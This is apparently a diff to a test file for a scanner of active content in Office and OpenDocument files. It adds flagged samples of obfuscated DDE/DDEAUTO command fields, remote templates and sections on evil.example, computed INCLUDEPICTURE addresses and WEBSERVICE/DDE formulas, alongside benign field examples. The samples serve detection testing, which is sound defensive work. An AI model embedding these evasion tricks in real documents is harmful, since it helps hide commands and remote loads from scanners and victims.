@@ -55,6 +55,18 @@ def text(body):
     return make_office("word", main=word(body))
 
 
+BEGIN, END = (f"<w:r><w:fldChar w:fldCharType='{kind}'/></w:r>" for kind in ("begin", "end"))
+
+
+def code(part):
+    return f"<w:r><w:instrText>{part}</w:instrText></w:r>"
+
+
+def nested(start, inner, end):
+    """Return a field of Word with another one in its code."""
+    return BEGIN + code(start) + field(inner) + code(end) + END
+
+
 ACTIVE = {
     "a template on a server": (settings("https://evil.example/a.dotm"), LOADS),
     "a template on a share": (settings(r"\\evil.example\a\b.dotm"), LOADS),
@@ -143,6 +155,22 @@ ACTIVE = {
         + "<w:r><w:instrText>cmd</w:instrText></w:r>"
         "<w:r><w:fldChar w:fldCharType='end'/></w:r>"
     ), COMMANDS),
+    "a DDE field with half of its name computed": (
+        text(nested("D", "QUOTE DEAUTO", " cmd")), COMMANDS,
+    ),
+    "a DDE field with a name of a simple field": (text(
+        BEGIN + "<w:fldSimple w:instr='QUOTE 68 68 69'/>" + code(" cmd") + END
+    ), COMMANDS),
+    "a DDE field for other versions of Word": (text(
+        BEGIN + "<mc:AlternateContent xmlns:mc='mc'><mc:Choice Requires='x'>" + code("PAGE ")
+        + "</mc:Choice><mc:Fallback>" + code("D") + code("DEAUTO cmd")
+        + "</mc:Fallback></mc:AlternateContent>" + END
+    ), COMMANDS),
+    "a DDE field in a field": (text(nested("IF 1 = 1 ", "DDEAUTO cmd", "")), COMMANDS),
+    "a field that loads a text": (text(field("INCLUDETEXT a.docx")), COMMANDS),
+    "a field that loads a picture of a computed address": (
+        text(nested("INCLUDEPICTURE ", "QUOTE 104 116 116 112", "")), COMMANDS,
+    ),
     "a simple DDE field": (text("<w:fldSimple w:instr='DDE calc'/>"), COMMANDS),
     "a field that loads a picture": (text(field('INCLUDEPICTURE "http://a.example"')), COMMANDS),
     "a program behind a picture": (
@@ -162,6 +190,22 @@ ACTIVE = {
         open_document(f"<a {DRAW}><script:event-listener xlink:href='vnd.sun.star.script:a'/></a>"),
         COMMANDS,
     ),
+    "a macro that a text of OpenDocument runs": (
+        open_document("<a xmlns:t='t'><t:execute-macro t:name='a'/></a>"), COMMANDS,
+    ),
+    "a formula of an OpenDocument that calls a server": (
+        open_document("<a xmlns:t='t'><t:c t:formula='of:=WEBSERVICE([.A1])'/></a>", "spreadsheet"),
+        COMMANDS,
+    ),
+    "a formula of an OpenDocument that calls a program": (
+        open_document("<a xmlns:t='t'><t:c t:formula='of:=DDE([.A1])'/></a>", "spreadsheet"),
+        COMMANDS,
+    ),
+    "a formula that loads a picture": (formula("_xlfn.IMAGE(A1)"), COMMANDS),
+    "a section of an OpenDocument on a server": (
+        open_document(f"<a {DRAW}><section-source xlink:href=' http://evil.example/a'/></a>"),
+        LOADS,
+    ),
     "a picture of an OpenDocument on a server": (
         open_document(f"<a {DRAW}><draw:image xlink:href='http://evil.example/a.png'/></a>"), LOADS,
     ),
@@ -171,6 +215,19 @@ GOOD = {
     "a text with fields": text(
         field(' TOC \\o "1-3" ') + field(" PAGE ") + field(' HYPERLINK "https://a.example/dde" ')
         + field('INCLUDEPICTURE "/var/folders/a.png" \\* MERGEFORMATINET')
+    ),
+    "a text with fields in fields": text(
+        nested("IF ", "MERGEFIELD Name", " = &quot;&quot; a b") + nested("=", "PAGE", "-1")
+        + nested(" SET ", "REF a", "")
+    ),
+    "a text box with fields": text(
+        "<mc:AlternateContent xmlns:mc='mc'><mc:Choice Requires='wps'>" + field(" PAGE ")
+        + "</mc:Choice><mc:Fallback>" + field(" PAGE ") + "</mc:Fallback></mc:AlternateContent>"
+    ),
+    "pictures of a mail": text(
+        BEGIN + code('INCLUDEPICTURE "cid:a@b" \\* MERGEFORMATINET')
+        + "<w:r><w:fldChar w:fldCharType='separate'/></w:r>"
+        + field('INCLUDEPICTURE "cid:a@b" \\* MERGEFORMATINET') + END
     ),
     "links": make_office("word", outside=[
         (RELATIONS + "hyperlink", target, EXTERNAL) for target in (
@@ -216,6 +273,9 @@ GOOD = {
     "a member that no program loads": make_office("word", {"[trash]/0000.dat": bytes(99)}),
     "a slide that leads on": make_office(
         "ppt", main="<p><a action='ppaction://hlinkshowjump?jump=nextslide'/></p>"
+    ),
+    "formulas of an OpenDocument": open_document(
+        "<a xmlns:t='t'><t:c t:formula='of:=SUM([.A1:.A3])'/></a>", "spreadsheet"
     ),
     "an OpenDocument": open_document(
         f"<a {DRAW}><draw:image xlink:href='Pictures/a.png'/>"
